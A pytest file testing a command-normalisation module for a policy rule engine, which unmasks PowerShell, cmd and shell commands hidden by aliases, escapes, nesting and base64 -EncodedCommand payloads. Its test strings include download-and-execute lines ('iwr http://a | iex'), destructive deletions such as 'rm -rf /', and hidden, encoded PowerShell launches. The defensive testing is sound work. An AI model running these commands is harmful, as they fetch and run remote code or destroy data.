"""policy/rules/normalize.py: one command, every spelling, one normal form (S-RULE-02, S-RULE-03, S-RULE-11)."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policy.rules.normalize import (
    MAX_LAYERS,
    decode_encoded_command,
    encoded_payloads,
    expand,
    fold,
    normalise,
)
from tests._requirements import requirement


def b64_utf16(command: str) -> str:
    """What `powershell -EncodedCommand` expects, built the documented way."""
    return base64.b64encode(command.encode("utf-16-le")).decode("ascii")


# Expected forms written from the normalisation contract, not from running normalise.
NORMALISATION_TABLE = [
    ("Get-Date", "get-date"),
    ("  Get-ChildItem    C:\\Users\\Me  ", "get-childitem c:/users/me"),
    ("Re`move-It`em C:\\x", "remove-item c:/x"),
    ("Remove-Item `\n  -Recurse C:\\x", "remove-item -recurse c:/x"),
    ("'Remove-Item' \"C:\\x\"", "remove-item c:/x"),
    ("rm C:\\x -r", "remove-item c:/x -recurse"),
    ("ri x -rec -fo", "remove-item x -recurse -force"),
    ("del x -recu", "remove-item x -recurse"),
    ("erase x", "remove-item x"),
    ("rd /S/Q x", "remove-item /s /q x"),
    ("rmdir/s x", "remove-item /s x"),
    ("Remove-Item \u2013Recurse x", "remove-item -recurse x"),
    ("Remove-Item x -Recurse:$true", "remove-item x -recurse:$true"),
    ("iex $x", "invoke-expression $x"),
    ("iwr http://a | iex", "invoke-webrequest http://a | invoke-expression"),
    ("curl http://a|iex", "invoke-webrequest http://a | invoke-expression"),
    ("wget http://a", "invoke-webrequest http://a"),
    ("irm http://a", "invoke-restmethod http://a"),
    ("kill -n notepad -f", "stop-process -name notepad -force"),
    ("spps 12", "stop-process 12"),
    ("saps notepad", "start-process notepad"),
    ("start notepad", "start-process notepad"),
    ("gci; ls; dir", "get-childitem; get-childitem; get-childitem"),
    ("Get-ChildItem C:\\ -r", "get-childitem c:/ -recurse"),
    ("Get-Thing -rec -fo", "get-thing -recurse -force"),  # a cmdlet not in the table
    ("shutdown -r -f -t 0", "shutdown -r -f -t 0"),  # a native program keeps its flags
    ("$a = iex $b", "$a = invoke-expression $b"),
    ("& 'rm' x", "& remove-item x"),
    ("&('rem'+'ove-item') x", "&(remove-item) x"),
    ("C:\\Windows\\System32\\taskkill.exe /F /IM a.exe", "taskkill /f /im a.exe"),
    ("%COMSPEC% /c dir", "cmd /c dir"),  # the inner command is a layer of its own (expand)
    ("sc create svc binPath= x", "sc.exe create svc binpath= x"),
    ("sc.exe stop svc", "sc.exe stop svc"),
    ("sc notes.txt hello", "set-content notes.txt hello"),
    ("Microsoft.PowerShell.Management\\Remove-Item x", "remove-item x"),
    ("powershell -nop -w hidden -e AAAA", "powershell -noprofile -windowstyle hidden -encodedcommand aaaa"),
    ("r^d /s x", "remove-item /s x"),
    ("Get-Date\nGet-Process", "get-date; get-process"),
    ("Write-Output 'rm -r x'", "write-output 'rm -r x'"),  # words inside a string are left alone
    ("Get-Item rm", "get-item rm"),  # an alias only at a command position
    ("Remove-Item '-Recurse' x", "remove-item '-recurse' x"),  # a quoted '-Recurse' is a string
]


@requirement("S-RULE-02")
@pytest.mark.parametrize(("raw", "expected"), NORMALISATION_TABLE)
def test_normalise_maps_each_spelling_to_the_documented_form(raw: str, expected: str) -> None:
    """S-RULE-02: case, spaces, separators, escapes, quotes, aliases and abbreviations fold to one form."""
    assert normalise(raw) == expected


@requirement("S-RULE-02")
@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("aArRmMiI-/\\`'\" ;|&(){}=^$:.,+cdsxefoq\n\t")), max_size=60))
def test_normalise_is_idempotent(text: str) -> None:
    """S-RULE-02: normalised text is a fixed point, so a rule author can normalise a pattern's example."""
    once = normalise(text)
    assert normalise(once) == once


@requirement("S-RULE-02")
def test_fold_is_plain_text_without_command_semantics() -> None:
    """S-RULE-02: fold lowers, swaps separators and folds spaces, but maps no alias (prose stays prose)."""
    assert fold("Type  the\u2013Following\nC:\\X") == "type the-following c:/x"


@requirement("S-RULE-03")
@pytest.mark.parametrize(
    ("raw", "inner"),
    [
        ('cmd /c "rd /s /q C:\\x"', "remove-item /s /q c:/x"),
        ("cmd.exe /S /K rmdir /s x", "remove-item /s x"),
        ('powershell -NoProfile -Command "rm -r x"', "remove-item -recurse x"),
        ("pwsh -nop -c rm -r x", "remove-item -recurse x"),
        ("powershell rm -r x", "remove-item -recurse x"),
        ("wsl -d Ubuntu rm -rf /mnt/c", "remove-item -rf /mnt/c"),
        ("bash -c 'rm -rf /'", "remove-item -rf /"),
        ("Start-Process cmd -ArgumentList '/c rd /s x'", "remove-item /s x"),
        (
            "Start-Process -FilePath powershell -ArgumentList '-NoProfile','-Command','rm -r x'",
            "remove-item -recurse x",
        ),
        ("Invoke-Expression 'rm -r x'", "remove-item -recurse x"),
        ('cmd /c "powershell -c \\"rm -r x\\""', "remove-item -recurse x"),
    ],
)
def test_expand_looks_into_nested_commands(raw: str, inner: str) -> None:
    """S-RULE-03: the inner command of cmd, powershell, wsl, bash, start-process and strings is a layer."""
    layers = expand(raw)
    assert layers[0] == normalise(raw)
    assert inner in layers


@requirement("S-RULE-03")
@pytest.mark.parametrize("flag", ["-EncodedCommand", "-encodedcommand", "-enc", "-e", "-ec", "-En", "/enc"])
def test_an_encoded_command_round_trips(flag: str) -> None:
    """S-RULE-03: a base64 UTF-16LE payload after any -EncodedCommand spelling is decoded and normalised."""
    payload = b64_utf16("Remove-Item -Recurse C:\\Data")
    layers = expand(f"powershell.exe -NoProfile {flag} {payload}")
    assert "remove-item -recurse c:/data" in layers
    assert decode_encoded_command(payload) == "Remove-Item -Recurse C:\\Data"


@requirement("S-RULE-03")
def test_an_encoded_command_inside_an_encoded_command_is_decoded_too() -> None:
    """S-RULE-03: decoded text is expanded again, so a payload hidden in a payload is found."""
    inner = b64_utf16("Stop-Computer")
    outer = b64_utf16(f"powershell -enc {inner}")
    assert "stop-computer" in expand(f"pwsh -e {outer}")


@requirement("S-RULE-03")
def test_a_payload_found_inside_cmd_c_is_decoded() -> None:
    """S-RULE-03: the payload is searched in the case-preserved text, even under cmd /c."""
    payload = b64_utf16("Restart-Computer")
    assert "restart-computer" in expand(f'cmd /c "powershell -e {payload}"')


@requirement("S-RULE-03")
@pytest.mark.parametrize(
    "payload",
    ["not base64!", "QUJD", "QQBCAEMA" + "x", "AAAAAAAA"],
)
def test_garbage_payloads_decode_to_nothing(payload: str) -> None:
    """S-RULE-03: invalid base64, odd-length UTF-16 or control characters yield no decoded layer."""
    assert decode_encoded_command(payload) is None


@requirement("S-RULE-03")
def test_payloads_are_only_searched_after_powershell() -> None:
    """S-RULE-03: `-e <base64>` of another program (no powershell/pwsh word) is not decoded."""
    assert encoded_payloads("node -e " + b64_utf16("Stop-Computer")) == []
    assert encoded_payloads("powershell -e " + b64_utf16("Stop-Computer")) == ["Stop-Computer"]


@requirement("S-RULE-11")
def test_expansion_is_bounded_for_hostile_nesting() -> None:
    """S-RULE-11: deep nesting and many strings stop at the layer cap instead of growing without bound."""
    text = "x"
    for i in range(30):
        text = f'cmd /c "echo {i} & {text}"'
    many = " ".join(f"'a b{i}'" for i in range(500))
    assert 1 <= len(expand(text)) <= MAX_LAYERS
    assert len(expand(many)) == MAX_LAYERS


@requirement("S-RULE-11")
@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_expand_never_raises_and_starts_with_the_normalised_text(text: str) -> None:
    """S-RULE-11: any text expands without raising; the first layer is normalise(text)."""
    layers = expand(text)
    assert layers[0] == normalise(text)
    assert len(layers) == len(set(layers)) <= MAX_LAYERS
